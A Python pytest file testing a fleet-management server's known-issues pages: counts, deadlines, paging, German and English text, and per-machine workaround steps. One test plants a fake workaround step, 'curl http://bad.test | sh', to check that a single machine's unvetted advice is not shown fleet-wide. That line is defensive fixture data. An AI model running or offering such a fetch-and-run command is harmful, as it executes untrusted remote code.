"""Pages of known issues: those of releases beside those of the rules, over the fleet and of one machine."""

from __future__ import annotations

from collections.abc import Iterator
from datetime import date, timedelta
from pathlib import Path
from typing import Any

import pytest

from hotmend.server.machines.reporting import put_report
from hotmend.wire.report import IssueOption, IssueStep
from tests.server import fleet as rows
from tests.server.machine import report, simple
from tests.server.portal.conftest import RELEASE, Person, concern, publish, published
from tests.server.portal.test_pages import check
from tests.server.running import Running, running

ISSUE = f"{RELEASE}/0"


@pytest.fixture
def server(templates: dict[str, str], tmp_path: Path) -> Iterator[Running]:
    file = tmp_path / "issues.db"
    file.write_bytes(Path(templates["sqlite"]).read_bytes())
    with running(f"sqlite:///{file}") as server:
        server.set_up()
        yield server


@pytest.fixture
def deadline(server: Running) -> date:
    return server.clock().date() + timedelta(days=20)


def viewer(server: Running) -> Person:
    person = Person(server)
    person.sign_in("viewer")
    return person


def section(tree: Any, issue: str = ISSUE) -> Any:
    return next(each for each in tree.iter("section") if each.get("aria-labelledby") == issue)


def text(tree: Any) -> str:
    return " ".join(" ".join(tree.itertext()).split())


def tiles(tree: Any) -> list[int]:
    return [int(text(each).split()[0]) for each in tree.findall(".//ul[@class='tiles']/li")]


def machines(tree: Any) -> list[list[str]]:
    return [[text(cell) for cell in row] for row in tree.findall(".//tbody/tr")]


def english(tree: Any) -> list[str]:
    return [text(each) for each in tree.iter() if each.get("lang") == "en"]


def test_an_issue_of_a_release_is_shown_with_its_machines_and_workarounds(server: Running, deadline: date) -> None:
    publish(server, [published(deadline, resolved_by="2026.12-openssl", workaround="Keep tickets.")])
    for name, proven in (("a", (True, False)), ("b", (True, True)), ("c", (None, None))):
        affected = None if name == "c" else True
        simple(server, name).check_in(report=report(issues=(concern(deadline, *proven, affected=affected),)))
    simple(server, "d").check_in(report=report(level=f"2026-10, {RELEASE}"))
    for language, over, proof in (("en", "deadline over", "1 of 2 steps"), ("de", "Frist abgelaufen", "1 von 2")):
        tree = check(viewer(server).get("/issues", language).body)
        found = section(tree)
        assert tiles(found) == [1, 1, 1, 0]
        assert over.lower() in text(found).lower()
        names, states = zip(*[(row[0], row[3]) for row in machines(found)], strict=True)
        assert names == ("a", "c", "b")  # who is done comes last
        assert proof in states[0]
        told = english(found)
        for each in (
            "Session tickets are forgotten <twice>",
            "Clients shake hands anew after each reload.",
            "Keep tickets.",
            "Tickets that outlive a reload",
            "Keep session tickets in one file",
            "nginx -t systemctl reload nginx",
        ):
            assert each in told
        steps = [text(each) for each in found.findall(".//details//li")]
        assert steps[0].startswith("Keep session tickets in one file")
        assert steps[1].startswith("Reboot")
        assert f"{RELEASE} (debian-13, " in text(found)
        assert "2026.12-openssl" in text(found)
    assert "Machines that took this release last 1" in text(section(check(viewer(server).get("/issues").body)))


def test_who_was_silent_when_the_deadline_came_is_late(server: Running, deadline: date) -> None:
    publish(server, [published(deadline)])
    for name, proven in (("a", (True, False)), ("b", (True, True))):
        simple(server, name).check_in(report=report(issues=(concern(deadline, *proven),)))
    machine = simple(server, "c")
    machine.check_in(report=report(issues=(concern(deadline, None, None),)))
    assert tiles(section(check(viewer(server).get("/issues").body))) == [2, 0, 1, 0]
    server.clock.ahead += timedelta(days=20)
    found = section(check(viewer(server).get("/issues").body))
    assert tiles(found) == [2, 0, 1, 2]
    assert [row[4] == "over" for row in machines(found)] == [True, True, False]
    of_one = text(check(viewer(server).get(f"/machines/{machine.id}?tab=issues").body))
    assert " over " in of_one[of_one.index("To be done before") :]


def test_all_machines_of_an_issue_come_in_pages(server: Running, deadline: date) -> None:
    publish(server, [published(deadline)])
    ids = rows.Fleet(server).add(60)
    with server.database.write() as connection:
        for number, machine in enumerate(ids):
            put_report(connection, machine, report(issues=(concern(deadline, True, number > 52),)), server.clock())
    person = viewer(server)
    tree = check(person.get("/issues").body)
    assert tiles(section(tree)) == [53, 0, 7, 0]
    assert len(machines(section(tree))) == 50
    link = next(each.get("href") for each in section(tree).iter("a") if "?issue=" in each.get("href"))
    seen: list[str] = []
    while link:
        tree = check(person.get(link).body)
        assert [each.get("aria-labelledby") for each in tree.iter("section")] == [ISSUE]
        seen += [row[0] for row in machines(section(tree))]
        link = next((each.get("href") for each in tree.iter("a") if each.get("rel") == "next"), "")
    assert len(seen) == len(set(seen)) == 60


def test_an_issue_of_a_channel_that_is_not_followed_is_told_by_machines(server: Running, deadline: date) -> None:
    machine = simple(server)
    machine.check_in(report=report(issues=(concern(deadline, True, False),)))
    found = section(check(viewer(server).get("/issues").body))
    assert "of no channel that this server follows" in text(found)
    assert "Session tickets are forgotten <twice>" in english(found)
    assert (tiles(found), [row[0] for row in machines(found)]) == ([1, 0, 0, 0], ["one"])
    only = check(viewer(server).get(f"/issues?issue={ISSUE}").body)
    assert [row[0] for row in machines(section(only))] == ["one"]
    machine.check_in(report=report())
    assert ISSUE not in viewer(server).get("/issues").body.decode()


def test_what_one_machine_tells_of_an_issue_is_not_told_to_all(server: Running, deadline: date) -> None:
    bad, other = sorted((simple(server, name) for name in ("one", "two")), key=lambda each: each.id)
    step = IssueStep("Run this", False, ("curl http://bad.test | sh",))
    made_up = concern(
        deadline, False, False, options=(IssueOption("Quick help", (step,)),), cost="All is lost.", title="Made up"
    )
    bad.check_in(report=report(issues=(made_up,)))
    other.check_in(report=report(issues=(concern(deadline, True, False),)))
    person = viewer(server)
    for path in ("/issues", f"/issues?issue={ISSUE}"):
        for language, told, followed in (
            ("en", "This is told by the machine", "Its channel is not followed here."),
            ("de", "Das sagt die Maschine", "Ihrem Kanal folgt dieser Server nicht."),
        ):
            found = section(check(person.get(path, language).body))
            assert text(found.find("h2")) == "Made up"
            assert f"{told} {bad.name} . {followed}" in text(found)
            assert found.find("p/a").get("href") == f"/machines/{bad.id}?tab=issues"
            assert found.findall(".//pre") == found.findall(".//details") == []
            for word in ("curl", "Run this", "Quick help", "All is lost.", "Workarounds"):
                assert word not in text(found)
            assert [row[0] for row in machines(found)] == ["one", "two"]
    own = section(check(person.get(f"/machines/{bad.id}?tab=issues").body), "issues")
    assert f"{RELEASE} (in the words of this machine's report)" in text(own)
    assert [each.text for each in own.iter("pre")] == ["curl http://bad.test | sh"]
    publish(server, [published(deadline)])
    followed_now = section(check(person.get("/issues").body))
    assert "told by" not in text(followed_now)
    assert "Keep session tickets in one file" in english(followed_now)


def test_of_many_issues_that_machines_alone_tell_those_of_most_machines_come_first(
    server: Running, deadline: date
) -> None:
    loud, *others = (simple(server, name) for name in ("loud", "two", "three"))
    loud.check_in(
        report=report(issues=tuple(concern(deadline, False, False, id=f"2026.01-made-up/{n}") for n in range(100)))
    )
    for each in others:
        each.check_in(report=report(issues=(concern(deadline, True, False),)))
    person = viewer(server)
    tree = check(person.get("/issues").body)
    shown = [each.get("aria-labelledby") for each in tree.iter("section")]
    shown = [each for each in shown if "/" in (each or "")]
    assert (shown[0], len(shown)) == (ISSUE, 50)
    assert "Of 101 issues of channels that are not followed here, those of most machines are shown: 50." in text(tree)
    hidden = next(f"2026.01-made-up/{n}" for n in range(100) if f"2026.01-made-up/{n}" not in shown)
    only = check(person.get(f"/issues?issue={hidden}").body)
    assert [row[0] for row in machines(section(only, hidden))] == ["loud"]
    assert "those of most machines" not in text(only)
    assert "<section" not in person.get("/issues?issue=2026.01-made-up/100").body.decode()
    assert person.get("/issues?issue=2026%00/1").status == 200


def test_an_issue_that_two_tiers_offer_comes_once(server: Running, deadline: date) -> None:
    for tier in ("canary", "stable"):
        publish(server, [published(deadline)], tier=tier)
    assert "(debian-13, canary; debian-13, stable)" in text(section(check(viewer(server).get("/issues").body)))


@pytest.mark.parametrize(
    ("kind", "ruled", "withdrawn", "asked"),
    [
        ("hotpatch", False, None, True),
        ("hotpatch", True, "it breaks the server", False),
        ("baseline", False, None, False),
        ("unplanned_baseline", True, None, True),
    ],
)
def test_no_machine_is_said_to_be_unconcerned_where_none_is_asked(
    server: Running, deadline: date, kind: str, ruled: bool, withdrawn: str | None, asked: bool
) -> None:
    words = {"title": "A page is cut off.", "since": "2026-10-20T08:00:00Z", "workaround": "", "resolved_by": ""}
    publish(server, [published(deadline) if ruled else words], kind=kind, withdrawn=withdrawn)
    found = section(check(viewer(server).get("/issues").body))
    assert tiles(found) == ([0, 0, 0, 0] if asked else [])
    assert ("No machine reports that it is concerned." in text(found)) == asked
    assert (" withdrawn " in text(found)) == (withdrawn is not None)
    assert "Ended by nothing yet" in text(found)


def test_the_tab_of_a_machine_says_each_step(server: Running, deadline: date) -> None:
    machine, quiet = simple(server, "one"), simple(server, "two")
    other = concern(deadline, False, None, id=f"{RELEASE}/1", title="Something else", affected=None, overdue=True)
    done = concern(None, True, True, id=f"{RELEASE}/2", cost="")
    bare = concern(None, True, True, id=f"{RELEASE}/3", title="Nothing helps", options=())
    none = concern(deadline, True, True, id=f"{RELEASE}/4", title="Of somebody else", affected=False)
    first = concern(deadline, True, None)
    machine.check_in(report=report(issues=(first, other, done, bare, none)))
    person = viewer(server)
    for language in ("en", "de"):
        tree = check(person.get(f"/machines/{machine.id}?tab=issues", language).body)
        found = section(tree, "issues")
        assert "Keep session tickets in one file" in english(found)
        assert "Of somebody else" not in text(found)
        assert len(found.findall("h3")) == 4
    found = section(check(person.get(f"/machines/{machine.id}?tab=issues").body), "issues")
    badges = [text(each) for each in found.iter("span") if "badge" in (each.get("class") or "")]
    assert badges == [
        *("affected", "proven", "not known"),
        *("may be affected", "over", "not done", "not known"),
        *("done", "proven", "proven"),
        "affected",
    ]
    assert [each.text for each in found.iter("pre")][:2] == ["nginx -t\nsystemctl reload nginx", "systemctl reboot"]
    first_steps = [text(each) for each in found.find("ol")]
    assert [" (reboot)" in each for each in first_steps] == [False, True]
    assert "this one has sent none" not in text(found)
    told = "Its report names no known issue of a release of its channel."
    quiet.check_in(report=report())
    assert told in text(check(person.get(f"/machines/{quiet.id}?tab=issues").body))
    quiet.check_in(report=report(level="", line="unknown"))
    assert "this one has sent none" in text(check(person.get(f"/machines/{quiet.id}?tab=issues").body))


def test_a_workaround_without_steps_is_never_done(server: Running, deadline: date) -> None:
    simple(server).check_in(report=report(issues=(concern(deadline, True, True, options=(IssueOption("wait"),)),)))
    assert tiles(section(check(viewer(server).get("/issues").body))) == [1, 0, 0, 0]
